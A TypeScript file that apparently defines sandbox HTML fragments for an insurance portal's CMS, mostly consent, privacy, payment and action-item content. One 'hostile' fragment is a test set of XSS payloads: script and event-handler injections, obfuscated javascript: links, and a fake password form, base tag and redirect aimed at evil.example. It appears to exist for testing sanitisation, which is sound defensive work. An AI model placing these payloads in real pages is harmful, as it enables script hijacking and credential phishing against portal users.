import { escapeHtml } from './answer';

/** What a fragment may use: its prefix, and the tokens of the request (none unless processing was requested). */
interface FragmentContext {
  /** `/cms/preview` or `/cms/site`. */
  readonly prefix: string;
  readonly tokens: Readonly<Record<string, string>>;
}

const image = ({ prefix }: FragmentContext, name: string, alternative: string): string =>
  `<img src="${prefix}/images/${name}.svg" alt="${alternative}" width="320" height="180">`;

/** The amount of a token in dollars, the portal's default currency; a value that is no amount as it is, escaped. */
const money = ({ tokens }: FragmentContext, name: string, otherwise: string): string => {
  const value = escapeHtml((Object.hasOwn(tokens, name) ? tokens[name] : undefined) ?? otherwise);
  return /^\d+\.\d\d$/.test(value) ? `$ ${value.replace(/\B(?=(\d{3})+\.)/g, ',')}` : value;
};

const actions = {
  'device-mandate': {
    title: 'Sign your device mandate',
    text: 'Your connected device is on its way. We need your signature before it can report to us.',
    picture: 'device',
    label: 'Sign the mandate',
  },
  'device-installation': {
    title: 'Choose a fitting date',
    text: 'Pick a day on which our technician can fit your device. It takes less than an hour.',
    picture: 'device',
    label: 'Choose a date',
  },
  'digital-consent': {
    title: 'A consent waits for you',
    text: 'A family member asks to see your membership details. You decide what they see.',
    picture: 'document',
    label: 'View the request',
  },
  'digital-acceptance': {
    title: 'Accept your new terms',
    text: 'Your renewed policy is ready. Read the terms and accept them online.',
    picture: 'document',
    label: 'Read and accept',
  },
  'will-review': {
    title: 'Review your will',
    text: 'It is three years since you last looked at your will. Does it still say what you want?',
    picture: 'pen',
    label: 'Review your will',
  },
  'will-executor': {
    title: 'Name an executor',
    text: 'Your will does not yet name who carries it out. Naming someone takes five minutes.',
    picture: 'pen',
    label: 'Name an executor',
  },
} as const;

const alternatives = { device: 'A connected device', document: 'A document to approve', pen: 'A will and a pen' };

// The link's address is the fragment's own last path segment: the portal replaces it with the item's redirectUrl.
const outstanding = (
  context: FragmentContext,
  segment: string,
  { title, text, picture, label }: (typeof actions)[keyof typeof actions],
): string =>
  `<section class="outstanding-item">
${image(context, picture, alternatives[picture])}
<h3>${title}</h3>
<p>${text}</p>
<p><a href="/${segment}">${label}</a></p>
</section>`;

// Anything of this that runs leaves window.hacked behind, or visibly takes over the page.
const hostile = `<h1 id="root" class="hostile">A fragment that means harm</h1>
<script>window.hacked = 'script'</script>
<img src=missing onerror="window.hacked = 'image'" alt="A broken picture">
<svg onload="window.hacked = 'svg'"><animate attributeName="href" values="javascript:window.hacked='animate'"></animate></svg>
<p onclick="window.hacked = 'click'" style="position: fixed; inset: 0" tabindex="1" autofocus>Some text that may stay.</p>
<p><a href="javascript:window.hacked='link'">A link that runs</a> <a href=" jav&#x09;ascript:window.hacked='tab'">Another</a></p>
<form action="https://evil.example/"><input name="password" placeholder="Password"><button>Sign in again</button></form>
<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<object data="data:text/html,harm"></object><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { display: none }</style>
<dialog open role="dialog" aria-modal="true">Your session has ended</dialog>
<table><caption>What may stay</caption><tbody><tr><td>A table</td></tr></tbody></table>`;

/** Every content fragment of the sandbox by path, without the prefix. */
export const fragments: Readonly<Record<string, (context: FragmentContext) => string>> = {
  '/corporate/consent/electronic-marketing': () => `<div class="consent">
<h2>Stay in touch with us</h2>
<p>We would like to tell you about products, offers and benefits that suit you, by email, text message and in this portal.</p>
<ul>
<li>You choose what you hear about, and you can change your mind at any time.</li>
<li>We never sell your details.</li>
<li>Service messages about what you already hold reach you either way.</li>
</ul>
<p>Read more in our <a href="/portal/privacy">privacy statement</a>.</p>
</div>`,

  '/corporate/privacy-statement': () => `<article class="privacy">
<h2>How we look after your information</h2>
<p>This statement, version 2026.2, says what we collect about you, why, and for how long.</p>
<h3>What we collect</h3>
<p>Your contact details, what you hold with us, and how you use this portal.</p>
<h3>Who sees it</h3>
<table>
<thead><tr><th scope="col">Who</th><th scope="col">Why</th></tr></thead>
<tbody>
<tr><td>Our own staff</td><td>To serve you and to settle your claims</td></tr>
<tr><td>Your adviser</td><td>To advise you, where you have named one</td></tr>
<tr><td>Regulators</td><td>Where the law asks it of us</td></tr>
</tbody>
</table>
<h3>Your rights</h3>
<p>You may see, correct or delete your information: write to <a href="mailto:privacy@example.com">privacy@example.com</a>
or call <a href="tel:+27800555010">0800 555 010</a>.</p>
</article>`,

  '/portfolio/medical-aid/welcome-communication': (context) => `<div class="welcome">
${image(context, 'welcome', 'A heart with a pulse')}
<h3>Welcome to your medical aid</h3>
<p>Your membership is active. Your digital card is ready, and your day-to-day benefits can be used from today.</p>
<p><a href="/portal/health/getting-started">See how to use your benefits</a></p>
</div>`,

  '/portfolio/flexicare/welcome-communication': () => `<div class="welcome">
<h3>Welcome to primary care</h3>
<p>See a nurse or doctor in our network from today, at no extra cost.</p>
<p><a href="/portal/primary-care/network">Find a practice near you</a></p>
</div>`,

  '/investments/action-items': () => `<div class="action-items">
<p><strong>Your investments need your attention.</strong> Please confirm your tax residence and your source of funds.</p>
<p><a href="/portal/investments/action-items">View your action items</a></p>
</div>`,

  '/life-insurance/pay-now': (context) => `<div class="pay-now">
<p><strong>Payments are in arrears.</strong> The outstanding amount is ${money(context, 'arrearAmount', 'shown on your statement')}.</p>
<p><a href="/portfolio/online-payments">Pay now</a></p>
</div>`,

  '/life-insurance/payback': () => `<div class="payback">
<p><strong>A payback waits for you.</strong> We could not pay it out, as we do not have your current bank account.</p>
<p><a href="/portal/life/payback">Update your bank account</a></p>
</div>`,

  '/portfolio/banners/year-end': (context) => `<div class="banner">
${image(context, 'savings', 'Savings that grow')}
<h3>Make the most of your year end</h3>
<p>Use what is left of your tax-free allowance before the year closes. <a href="/portal/investments/tax-free">Top up in two minutes</a>.</p>
</div>`,

  '/portfolio/banners/refer-a-friend': (context) => `<div class="banner">
${image(context, 'welcome', 'A heart')}
<h3>Bring a friend, earn 500 Miles</h3>
<p>Invite someone you care about. When they join, you both receive Miles. <a href="/portal/refer">Invite a friend</a>.</p>
</div>`,

  '/portfolio/outstanding/hostile': () => hostile,

  ...Object.fromEntries(
    Object.entries(actions).map(([segment, action]) => [
      `/portfolio/outstanding/${segment}`,
      (context: FragmentContext) => outstanding(context, segment, action),
    ]),
  ),
};
